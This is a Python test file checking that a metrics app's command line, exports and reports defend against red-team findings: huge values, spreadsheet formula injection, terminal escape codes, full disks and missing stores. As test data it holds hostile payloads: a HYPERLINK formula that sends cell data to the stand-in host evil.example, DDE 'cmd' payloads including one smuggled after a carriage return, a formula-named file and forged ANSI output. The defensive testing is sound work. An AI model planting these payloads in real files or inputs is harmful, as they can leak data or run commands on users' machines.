"""Issue 17's findings, each with the red team's payload: a sentence, never a traceback, and nothing
changed (store, terminal, spreadsheet)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import tomllib
from pathlib import Path

import pandas as pd
import pytest

from data import ingest
from data.__main__ import EXIT_ERROR, EXIT_INVALID, EXIT_OK
from data.__main__ import main as data_main
from data.store import Store, StoreDiskFullError
from metrics import views
from metrics.__main__ import main as metrics_main
from metrics.config import Config
from metrics.safe_text import FORMULA_PREFIXES, csv_bytes
from tests.actors import named
from tests.faults import FullDisk

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / "tests" / "fixtures"
HUGE = FIXTURES / "odd" / "value_huge_at_two_sites.csv"
PLAIN = FIXTURES / "good" / "plain.csv"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
CR_FORMULA = "fine\r=cmd|' /C calc'!A0"
ANSI = "\x1b[2J\x1b[H\x1b[32mLoaded OK\x1b[0m"


def snapshot(path: Path) -> tuple:
    with Store(path, read_only=True) as store:
        return (
            store.facts().sort_values(["month", "measure", "service", "site", "segment"]).to_numpy().tolist(),
            store.history().to_numpy().tolist(),
            store.uploads().to_numpy().tolist(),
        )


# --- 1. huge values ------------------------------------------------------------------------------------


def test_1_a_file_with_huge_values_is_refused_by_load_and_changes_nothing(demo_db: Path, capsys) -> None:
    before = snapshot(demo_db)
    assert data_main(["load", str(HUGE), "--yes", "--db", str(demo_db)]) == EXIT_INVALID
    out = capsys.readouterr().out
    assert "Row 2, column 'value': '1.7e308' is too large to be a monthly figure" in out
    assert "Nothing was loaded." in out
    assert snapshot(demo_db) == before


@pytest.fixture
def huge_store_db(demo_db: Path) -> Path:
    """A store that somehow holds 1.7e308 for CT tests at two sites (written past the upload checks)."""
    with Store(demo_db) as store:
        rows = pd.DataFrame(
            [(dt.date(2021, 3, 1), "ct_tests", "All", site, "All", 1.7e308) for site in ("PRUH", "ORPINGTON")],
            columns=["month", "measure", "service", "site", "segment", "value"],
        )
        store.commit_rows(rows, file_name="huge.csv", sha256="huge", actor=named("direct write"))
    return demo_db


def test_1_overview_and_report_never_show_infinity_from_a_huge_stored_value(huge_store_db: Path, cfg: Config,
                                                                              capsys) -> None:
    with Store(huge_store_db, read_only=True) as store:
        overview = views.load_overview(store, cfg, dt.date(2021, 3, 1))
        report = views.load_report(store, cfg, dt.date(2021, 3, 1))
    for frame in [overview.tiles[["value", "target", "gap"]], report[["value", "target", "gap"]],
                  *[s[["value", "numerator", "denominator", "gap"]] for s in overview.series.values()]]:
        assert not frame.map(lambda v: isinstance(v, float) and math.isinf(v)).any().any()
    ct = overview.tiles.set_index("metric").loc["ct_activity"]
    assert (ct["value_text"], ct["status"]) == ("–", "no_data")
    assert any("CT tests in Mar 2021 add up to more than any real total" in p for p in overview.problems)

    assert metrics_main(["report", "--month", "2021-03", "--format", "csv", "--db", str(huge_store_db)]) == EXIT_OK
    captured = capsys.readouterr()
    assert "inf" not in captured.out and "ct_activity,2021-03,,1,,no_data" in captured.out
    assert "add up to more than any real total" in captured.err


def test_1_the_board_pack_is_built_on_a_store_holding_a_huge_value(huge_store_db: Path, cfg: Config) -> None:
    from metrics.pack import build_pack

    with Store(huge_store_db, read_only=True) as store:
        data = build_pack(store, cfg, dt.date(2021, 3, 1), "pdf")
    assert data.startswith(b"%PDF")


# --- 2. spreadsheet formulas ---------------------------------------------------------------------------


def cells_of_every_reader(text: str) -> list[str]:
    """Cells as Python's csv module reads them and as a reader that ends a line at each CR or LF."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return cells + [cell.strip('"') for line in lines for cell in line.split(",")]


def formula_cells(text: str) -> list[str]:
    def is_number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    return [c for c in cells_of_every_reader(text) if c.lstrip(" ").startswith(FORMULA_PREFIXES) and not is_number(c)]


def test_2_export_guards_every_user_field_against_formulas(demo_db: Path, cfg: Config, tmp_path: Path) -> None:
    odd_name = tmp_path / "=cmd calc.csv"
    odd_name.write_bytes(PLAIN.read_bytes().replace(b"2020-07", b"2021-02").replace(b"2020-08", b"2021-01"))
    # A new store: the plain file's breakdown by service would clash with the demo's totals. The name a
    # sign-in provider gives is user text too: the upload is recorded as made by the formula.
    db = tmp_path / "store.duckdb"
    with Store(db) as store:
        check = ingest.check_upload(odd_name.read_bytes(), odd_name.name, cfg, store)
        ingest.commit_upload(store, check, actor=named(HYPERLINK), note=CR_FORMULA, load_anyway=True)
        store.add_commentary("ct_activity", dt.date(2021, 1, 1), "@SUM(A1)\n=1+1", actor=named("+Chief Exec"))
    assert data_main(["export", str(tmp_path / "out"), "--db", str(db)]) == EXIT_OK
    exported = {p.name: p.read_text(encoding="utf-8") for p in (tmp_path / "out").glob("*.csv")}
    assert {"uploads.csv", "facts.csv", "commentary.csv"} <= set(exported)
    for name, text in exported.items():
        assert formula_cells(text) == [], name
    uploads = list(csv.DictReader(io.StringIO(exported["uploads.csv"])))
    assert uploads[0]["uploaded_by"] == "'" + named(HYPERLINK).label and uploads[0]["file_name"] == "'=cmd calc.csv"
    assert uploads[0]["note"] == "fine =cmd|' /C calc'!A0"  # the CR became a space: no row starts with it


def test_2_a_review_with_a_bare_cr_before_a_formula_downloads_safely(demo_store: Store, cfg: Config) -> None:
    from metrics import assessment

    requirements = demo_store.requirements()
    latest = int(demo_store.assessment_reviews()["review_id"].max())
    template = assessment.review_template(requirements, demo_store.assessment_rows([latest]))
    template.loc[0, "assessment"] = CR_FORMULA
    template.loc[1, "lead_role"] = "-2+3+cmd|' /C calc'!A0"
    new_id = views.save_review(demo_store, requirements, template, review_date=dt.date(2020, 9, 10),
                               actor=named("@Rita"), note="\t=1+1", based_on=latest, organisation="One Bromley")
    table = assessment.review_table(requirements, demo_store.assessment_rows([new_id]))
    for frame in (table, demo_store.assessment_reviews()):
        assert formula_cells(csv_bytes(frame).decode("utf-8-sig")) == []


def test_2_templates_problem_lists_and_the_report_go_through_the_guarded_writer(cfg: Config) -> None:
    check = ingest.check_upload(f"period,measure,value\n2020-07,{HYPERLINK},1\n".encode(), "p.csv", cfg)
    assert formula_cells(csv_bytes(ingest.problem_table(check.errors)).decode("utf-8-sig")) == []
    for layout in ingest.TEMPLATE_FILES:
        assert formula_cells(ingest.template_csv(cfg, layout)) == []


# --- 4. terminals ------------------------------------------------------------------------------------------


def test_4_validate_shows_escape_codes_as_text(demo_db: Path, capsys) -> None:
    code = data_main(["validate", str(FIXTURES / "odd" / "ansi_escapes_in_names.csv"), "--db", str(demo_db)])
    captured = capsys.readouterr()
    assert code == EXIT_INVALID
    assert "\x1b" not in captured.out + captured.err
    assert "'\\x1b[2J\\x1b[H\\x1b[32mLoaded OK\\x1b[0m' is not a measure" in captured.out


def test_4_history_shows_escape_codes_in_names_and_notes_as_text(tmp_path: Path, cfg: Config, capsys) -> None:
    db = tmp_path / "s.duckdb"
    with Store(db) as store:
        check = ingest.check_upload(PLAIN.read_bytes(), PLAIN.name, cfg, store)
        ingest.commit_upload(store, check, actor=named(ANSI), note="line\rX\x07", load_anyway=True)
    capsys.readouterr()
    assert data_main(["history", "--db", str(db)]) == EXIT_OK
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\r" not in out and "\x07" not in out
    assert "\\x1b[32mLoaded OK" in out and "line\\x0dX\\x07" in out


# --- 6. a full disk ---------------------------------------------------------------------------------------


@pytest.fixture
def full_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Store, "cursor", lambda self: FullDisk(self._con.cursor()))


def test_6_a_full_disk_is_a_sentence_on_the_command_line_and_changes_nothing(demo_db: Path, tmp_path: Path,
                                                                              capsys, monkeypatch) -> None:
    april = tmp_path / "april.csv"
    april.write_text("period,measure,site,value\n2021-04,ct_tests,PRUH,1000\n")
    before = snapshot(demo_db)
    monkeypatch.setattr(Store, "cursor", lambda self: FullDisk(self._con.cursor()))
    code = data_main(["load", str(april), "--yes", "--db", str(demo_db)])
    err = capsys.readouterr().err
    monkeypatch.undo()
    assert code == EXIT_ERROR
    assert f"The disk holding the store ({demo_db}) is full; nothing was changed." in err
    assert "Traceback" not in err and "IOException" not in err
    assert snapshot(demo_db) == before


def test_6_every_store_write_turns_a_full_disk_into_the_sentence(demo_store: Store, full_disk) -> None:
    with pytest.raises(StoreDiskFullError, match="is full; nothing was changed"):
        demo_store.add_commentary("ct_activity", dt.date(2020, 7, 1), "text", actor=named("Ann"))
    with pytest.raises(StoreDiskFullError, match="is full; nothing was changed"):
        demo_store.undo_upload(1, actor=named("Ann"))


# --- 7. a missing or locked store ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [["validate", str(PLAIN)], ["load", str(PLAIN), "--yes"], ["history"], ["undo", "1"],
     ["export", "OUT"]],
)
def test_7_a_mistyped_store_path_is_an_error_and_creates_nothing(command: list[str], tmp_path: Path, capsys) -> None:
    db = tmp_path / "typo.duckdb"
    command = [str(tmp_path / "out") if c == "OUT" else c for c in command]
    code = data_main([*command, "--db", str(db)])
    captured = capsys.readouterr()
    assert code in (EXIT_INVALID, EXIT_ERROR) and code != EXIT_OK
    assert f"There is no store at {db}" in captured.err
    assert "valid" not in captured.out.replace("invalid", "")
    assert not db.exists() and not (tmp_path / "out").exists()


def test_7_report_and_pack_refuse_a_missing_store(tmp_path: Path, capsys) -> None:
    db = tmp_path / "typo.duckdb"
    assert metrics_main(["report", "--month", "2020-07", "--db", str(db)]) == EXIT_ERROR
    assert metrics_main(["pack", "--month", "2020-07", "--out", str(tmp_path / "p.pdf"), "--db", str(db)]) == EXIT_ERROR
    assert capsys.readouterr().err.count("There is no store at") == 2
    assert not db.exists()


# --- 8. the server's settings ---------------------------------------------------------------------------------


def test_8_the_server_binds_this_machine_and_shows_no_error_details() -> None:
    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert settings["server"]["address"] == "127.0.0.1"
    assert settings["client"]["showErrorDetails"] == "none"


# --- 9. smaller ---------------------------------------------------------------------------------------------------


def test_9_one_upload_size_from_config_for_browser_cli_and_page(cfg: Config) -> None:
    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert settings["server"]["maxUploadSize"] == cfg.upload.max_file_mb
    assert ingest.max_upload_bytes(cfg) == int(cfg.upload.max_file_mb * 1_000_000) == 50_000_000
    page = (ROOT / "app_pages" / "upload.py").read_text()
    assert "max_upload_size=int(cfg.upload.max_file_mb)" in page and "{cfg.upload.max_file_mb:g} MB" in page


def test_9_a_file_one_byte_over_the_limit_is_refused_with_the_same_number(cfg: Config) -> None:
    check = ingest.check_upload(b"x" * (ingest.max_upload_bytes(cfg) + 1), "big.csv", cfg)
    assert [p.kind for p in check.errors] == ["too_large"]
    assert "over the 50 MB limit" in check.errors[0].message


def test_9_long_names_and_notes_are_refused_and_change_nothing(demo_db: Path, cfg: Config) -> None:
    before = snapshot(demo_db)
    with Store(demo_db) as store:
        check = ingest.check_upload(b"period,measure,site,value\n2021-04,ct_tests,PRUH,1000\n", "a.csv", cfg, store)
        with pytest.raises(ingest.UploadRefused, match="The note is 1,001 characters long"):
            ingest.commit_upload(store, check, actor=named("Ann"), note="n" * 1001)
    assert snapshot(demo_db) == before


def test_9_the_undo_refusal_counts_values_not_history_rows(empty_store: Store, cfg: Config) -> None:
    def load(text: str, name: str) -> int:
        check = ingest.check_upload(("period,measure,site,value\n" + text).encode(), name, cfg, empty_store)
        return ingest.commit_upload(empty_store, check, actor=named("Ann"), load_anyway=True).upload_id

    first = load("2021-03,ct_tests,PRUH,1000\n", "first.csv")
    second = load("2021-03,ct_tests,PRUH,1100\n", "second.csv")
    empty_store.undo_upload(second, actor=named("Ann"))
    load("2021-03,ct_tests,PRUH,1200\n", "third.csv")
    with pytest.raises(Exception, match="changed one of the same values") as refused:
        empty_store.undo_upload(first, actor=named("Ann"))
    assert "2 of the same values" not in str(refused.value)


def test_9_export_refuses_a_folder_that_holds_files_unless_forced(demo_db: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "uploads.csv").write_text("keep me")
    assert data_main(["export", str(out), "--db", str(demo_db)]) == EXIT_ERROR
    assert f"The folder {out} is not empty; nothing was written" in capsys.readouterr().err
    assert (out / "uploads.csv").read_text() == "keep me"
    assert data_main(["export", str(out), "--force", "--db", str(demo_db)]) == EXIT_OK
    assert (out / "uploads.csv").read_text().startswith("upload_id,")


def test_9_a_review_file_of_many_columns_or_long_text_is_refused_with_its_row(demo_store: Store) -> None:
    from metrics import assessment

    with pytest.raises(assessment.ReviewError) as wide:
        assessment.read_review_csv(("requirement_id," + ",".join(f"c{i}" for i in range(100_000)) + "\n").encode())
    assert wide.value.problems[0].startswith("Row 1: the file has far more columns than a review")
    requirements = demo_store.requirements()
    latest = int(demo_store.assessment_reviews()["review_id"].max())
    template = assessment.review_template(requirements, demo_store.assessment_rows([latest]))
    template.loc[0, "lead_role"] = "L" * 201
    template.loc[1, "assessment"] = "A" * 2001
    with pytest.raises(assessment.ReviewError) as long:
        assessment.prepare_review(template, requirements, first_row=2)
    assert any(p.startswith("Row 2 (") and "lead role is 201 characters long" in p for p in long.value.problems)
    assert any(p.startswith("Row 3 (") and "assessment is 2,001 characters long" in p for p in long.value.problems)
